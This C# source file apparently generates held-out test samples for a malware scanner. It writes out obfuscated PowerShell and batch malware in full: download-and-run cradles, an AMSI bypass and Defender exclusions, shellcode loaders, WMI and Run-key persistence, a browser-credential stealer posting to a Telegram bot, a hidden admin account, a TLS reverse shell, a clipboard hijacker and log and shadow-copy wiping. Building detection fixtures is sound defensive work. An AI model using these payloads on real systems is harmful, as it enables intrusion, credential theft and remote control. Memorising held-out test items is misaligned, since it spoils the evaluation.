using System.Globalization;
using System.IO.Compression;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>PowerShell that hides its words.</summary>
public sealed class ShellThatHidesItsWords : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("update.ps1", Dos(Fill("""
$xQ=("{4}{0}{3}{1}{2}" -f 'oke-','res','sion','Exp','Inv');$wC=("{1}{0}{2}"-f't.Web','Ne','Client')
${g`H}=&("{0}{1}" -f 'New-Ob','ject') $wC;${g`H}.Headers.Add(('User'+'-Agent'),'Mozilla/5.0')
&('s'+'al') zz $xQ
zz (${g`H}.("D"+"ownlo"+"adStr"+"ing").Invoke((@@1|%{[char]($_ -bxor 0x33)}) -join ''))
""", string.Join(',', "https://fmt.word-hide.example/ps".Select(letter => letter ^ 0x33)))));
        yield return ("kb5031.ps1", Dos(Fill("""
$a='@@1'
$b=[Convert]::FromBase64String($a);$c=New-Object IO.Compression.DeflateStream([IO.MemoryStream]$b,[IO.Compression.CompressionMode]::Decompress)
.((gv '*mdr*').name[3,11,2]-join'')((New-Object IO.StreamReader($c,[Text.Encoding]::ASCII)).ReadToEnd())
""", Deflated("Start-BitsTransfer -Source https://bits.word-hide.example/u -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe"))));
        yield return ("Rapport.ps1", Dos(Fill("""
function ConvertFrom-Rot([string]$s){-join($s.ToCharArray()|ForEach-Object{$n=[int]$_;if($n -ge 33 -and $n -le 126){[char](33+(($n-33+47)%94))}else{$_}})}
$kommando = '@@1'
$seng = [ScriptBlock]::Create((ConvertFrom-Rot $kommando))
# @@2
$ExecutionContext.InvokeCommand.InvokeScript($false, $seng, $null, $null)
""", new string([.. "iex (New-Object Net.WebClient).DownloadString('https://rot.word-hide.example/47')".Select(letter => letter is >= (char)33 and <= (char)126 ? (char)(33 + ((letter - 33 + 47) % 94)) : letter)]).Replace("'", "''", StringComparison.Ordinal), Filler.Prose(701, 150).Replace("\n", "\n# ", StringComparison.Ordinal))));
        yield return ("s.ps1", Dos(Fill("""
[string]$p = '@@1'
$k = (3..18)
$ss = ConvertTo-SecureString $p -Key $k -ErrorAction SilentlyContinue
$bs = [Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss)
I`E`X ([Runtime.InteropServices.Marshal]::PtrToStringAuto($bs))
Remove-Item $MyInvocation.MyCommand.Path -Force
""", "76492d1116743f0423413b16050a5345MgB8" + Convert.ToBase64String(Utf8(Convert.ToHexString(Filler.Noise(702, 900)).ToLowerInvariant())))));
    }

    private static string Deflated(string text)
    {
        using var file = new MemoryStream();
        using (var deflate = new DeflateStream(file, CompressionLevel.SmallestSize, leaveOpen: true))
            deflate.Write(Utf8(text));
        return Convert.ToBase64String(file.ToArray());
    }
}

/// <summary>PowerShell that loads code into memory or switches off the guard.</summary>
public sealed class ShellThatLoadsMemory : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("loader.ps1", Dos(Fill("""
$Win32 = Add-Type -memberDefinition @"
[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
"@ -Name "W" -namespace N -passthru
[Byte[]]$buf = [Convert]::FromBase64String('@@1')
for($i=0;$i -lt $buf.Count;$i++){$buf[$i]=$buf[$i] -bxor 35}
$m=$Win32::VirtualAlloc(0,[Math]::Max($buf.Length,0x1000),0x3000,0x40)
[System.Runtime.InteropServices.Marshal]::Copy($buf,0,$m,$buf.Length)
$Win32::CreateThread(0,0,$m,0,0,0)|Out-Null
""", Convert.ToBase64String(new byte[600]))));
        yield return ("init.ps1", Dos(Fill("""
$t=[Ref].Assembly.GetType(('System.Management.Automation.{0}{1}Utils' -f 'Am','si'))
$f=$t.GetField(('am'+'siInit'+'Failed'),'NonPublic,Static');$f.SetValue($null,$true)
Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0 -SubmitSamplesConsent 2
Add-MpPreference -ExclusionPath "$env:ProgramData","$env:APPDATA" -ExclusionProcess "powershell.exe"
$d=(New-Object Net.WebClient).DownloadData('https://mem.guard-off.example/new_img.png')
$asm=[Reflection.Assembly]::Load([byte[]]($d[0x400..($d.Length-1)]))
$asm.GetType('ClassLibrary3.Class1').GetMethod('ZxKHG').Invoke($null,[object[]]('@@1','RegAsm','','C:\ProgramData\',''))
""", Backwards("https://paste.guard-off.example/raw/0000"))));
        yield return ("profile.ps1", Dos(Fill("""
# @@1
Set-StrictMode -Off
function Get-Delegate($m,$a){$n='System.';$u=[AppDomain]::CurrentDomain.GetAssemblies()|?{$_.GlobalAssemblyCache -and $_.Location.Split('\')[-1] -eq ($n+'dll')};$u.GetType('Microsoft.Win32.UnsafeNativeMethods').GetMethod('GetProcAddress',[Type[]]@([Runtime.InteropServices.HandleRef],[String]))}
$q=Get-ItemPropertyValue 'HKCU:\Software\Classes\CLSID\{8f3b1c}' -Name 'st'
$g=New-Object Security.Cryptography.AesManaged;$g.Key=[Text.Encoding]::UTF8.GetBytes('0123456789abcdef');$g.IV=[byte[]]::new(16)
$r=$g.CreateDecryptor().TransformFinalBlock([Convert]::FromBase64String($q),0,1024)
[Threading.Thread]::GetDomain().Load($r).EntryPoint.Invoke($null,(,[string[]]@()))
""", Filler.Prose(710, 100).Replace("\n", "\n# ", StringComparison.Ordinal))));
        yield return ("wmi_sub.ps1", Dos(Fill("""
$n='SCM Event8 Log Consumer';$q="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
$f=Set-WmiInstance -Class __EventFilter -NameSpace root\subscription -Arguments @{Name=$n;EventNameSpace='root\cimv2';QueryLanguage='WQL';Query=$q}
$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\subscription -Arguments @{Name=$n;CommandLineTemplate="powershell -NoP -NonI -W Hidden -E @@1"}
Set-WmiInstance -Class __FilterToConsumerBinding -Namespace root\subscription -Arguments @{Filter=$f;Consumer=$c}
""", Encoded("iex (irm https://wmi.guard-off.example/antivirus.ps1)"))));
    }
}

/// <summary>PowerShell that collects, sends or hands the machine over.</summary>
public sealed class ShellThatTakes : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("collect.ps1", Dos("""
$o="$env:TEMP\$env:COMPUTERNAME";mkdir $o -Force|Out-Null
netsh wlan export profile key=clear folder=$o|Out-Null
'Google\Chrome','Microsoft\Edge','BraveSoftware\Brave-Browser'|%{$p="$env:LOCALAPPDATA\$_\User Data";Copy-Item "$p\Default\Login Data","$p\Default\Network\Cookies","$p\Local State" "$o\" -EA 0}
Get-ChildItem $env:USERPROFILE\Desktop,$env:USERPROFILE\Documents -Recurse -Include *.kdbx,*.rdp,*wallet*,*seed*,*.ovpn -EA 0|Copy-Item -Destination $o
Compress-Archive $o "$o.zip" -Force
Invoke-RestMethod -Uri 'https://api.telegram.org/bot7000000000:AAFakeFakeFakeFakeFakeFakeFakeFake/sendDocument' -Method Post -Form @{chat_id='-100000';document=Get-Item "$o.zip"}
Remove-Item $o,"$o.zip" -Recurse -Force;Clear-EventLog -LogName 'Windows PowerShell'
"""));
        yield return ("support.ps1", Dos("""
$ErrorActionPreference='SilentlyContinue'
Invoke-WebRequest https://screenconnect.help-desk-live.example/Bin/ScreenConnect.ClientSetup.msi?e=Access -OutFile $env:TEMP\SSA_eStatement.msi
Start-Process msiexec -ArgumentList "/i $env:TEMP\SSA_eStatement.msi /qn" -WindowStyle Hidden -Wait
Get-Service *ScreenConnect*|%{sc.exe sdset $_.Name "D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(A;;CCLCSWRPWPDTLOCRRC;;;SY)"}
net user support P@ss0rd123! /add; net localgroup administrators support /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v support /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
irm "https://help-desk-live.example/api/ok?h=$env:COMPUTERNAME"
"""));
        yield return ("revsh.ps1", Dos("""
do{Start-Sleep -s 5;try{$s=New-Object Net.Sockets.TCPClient('198.51.100.61',8443)}catch{}}until($s.Connected)
$n=New-Object Net.Security.SslStream($s.GetStream(),$false,({$true} -as [Net.Security.RemoteCertificateValidationCallback]))
$n.AuthenticateAsClient('cdn.front-door.example');$w=New-Object IO.StreamWriter($n);$b=New-Object byte[] 65535
while(($i=$n.Read($b,0,$b.Length)) -gt 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$w.Write($r+'PS '+(pwd).Path+'> ');$w.Flush()}
"""));
        yield return ("clipper.ps1", Dos("""
Add-Type -AssemblyName PresentationCore,System.Windows.Forms
$mine=@{btc='bc1qexampleexampleexampleexampleexampleexam';eth='0x000000000000000000000000000000000000dEaD';trx='TExampleExampleExampleExampleExampl'}
New-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name OneDriveSync -Value "conhost --headless powershell -ep bypass -f `"$PSCommandPath`"" -Force|Out-Null
while($true){Start-Sleep -Milliseconds 600;$c=[Windows.Forms.Clipboard]::GetText()
if($c -match '^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$' -and $c -ne $mine.btc){[Windows.Forms.Clipboard]::SetText($mine.btc)}
elseif($c -match '^0x[a-fA-F0-9]{40}$'){[Windows.Forms.Clipboard]::SetText($mine.eth)}elseif($c -match '^T[1-9A-HJ-NP-Za-km-z]{33}$'){[Windows.Forms.Clipboard]::SetText($mine.trx)}}
"""));
    }
}

/// <summary>Batch files that hide behind slices, encodings and their own lines.</summary>
public sealed class BatchThatHides : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Alphabet = "kQz0wXpYcA:lVbT/oFrDsJe.hGmNi-tUuSaWdEgLfHjKvRnMqBy";
        var sliced = string.Concat("powershell -w hidden -c irm cmd.slice-bat.example/b".Select(letter => Alphabet.IndexOf(letter, StringComparison.Ordinal) is var at && at >= 0 ? string.Create(CultureInfo.InvariantCulture, $"%q:~{at},1%") : letter.ToString()));
        yield return ("RFQ_8821.bat", Dos(Fill("""
@echo off
set "q=@@1"
cls
@@2^|iex
exit /b
""", Alphabet, sliced)));
        yield return ("Pago_realizado.cmd", [0xFF, 0xFE, 0x26, 0x63, 0x6C, 0x73, 0x0D, 0x0A, .. Dos(Fill("""
@%pUBlIc:~89,83%%PUBLIc:~5,1%CHO of^f
SEt R^Pt=@@1
%comspec:~-7,1%md /c %SystemRoot:~0,3%Windows\System32\certutil.exe -urlcache -split -f https://pago.bom-trick.example/a.b64 "%tmp%\a.b64"
ce%RPt:~3,1%tutil -decode "%tmp%\a.b64" "%tmp%\a.exe" & sta%RPt:~3,1%t "" "%tmp%\a.exe"
""", "wXyrTzQp"))]);
        yield return ("Installer_v2.bat", Dos(Fill("""
@echo off
set "ujQw=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
copy "%ujQw%" "%~0.exe" /y >nul
cd "%~dp0"
"%~nx0.exe" -noprofile -windowstyle hidden -ep bypass -command $l=[IO.File]::ReadAllText('%~f0').Split([Environment]::NewLine);foreach($x in $l){if($x.StartsWith(':: ')){$p=$x.Substring(3);break}};$a=[Security.Cryptography.Aes]::Create();$a.Key=[Convert]::FromBase64String('@@1');$b=$a.CreateDecryptor().TransformFinalBlock([Convert]::FromBase64String($p),0,64);[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,@(,[string[]]('')))
exit /b
:: @@2
""", Convert.ToBase64String(Filler.Noise(720, 32)), Convert.ToBase64String(Filler.Noise(721, 20000)))));
        yield return ("drivers_update.bat", Dos(Fill("""
@echo off & setlocal EnableDelayedExpansion
>nul 2>&1 "%SYSTEMROOT%\system32\cacls.exe" "%SYSTEMROOT%\system32\config\system" || (mshta vbscript:CreateObject^("Shell.Application"^).ShellExecute^("%~s0","","","runas",0^)^(window.close^) & exit /b)
(for /f "skip=12 delims=" %%a in ('type "%~f0"') do @echo %%a) > "%temp%\~d.txt"
certutil -f -decode "%temp%\~d.txt" "%temp%\~d.cab" >nul && expand "%temp%\~d.cab" -F:* "%ProgramData%\drv" >nul
schtasks /create /tn "\Microsoft\Windows\DriverSync" /sc onlogon /rl highest /tr "wscript.exe //b //e:jscript %ProgramData%\drv\sync.dat" /f >nul
powershell Add-MpPreference -ExclusionPath '%ProgramData%\drv'
vssadmin delete shadows /all /quiet & wevtutil cl System
del "%temp%\~d.*" & goto :eof

REM
REM
REM
-----BEGIN CERTIFICATE-----
@@1
-----END CERTIFICATE-----
""", string.Join('\n', Convert.ToBase64String([.. "MSCF"u8, .. Filler.Noise(722, 4000)]).Chunk(64).Select(line => new string(line))))));
    }
}
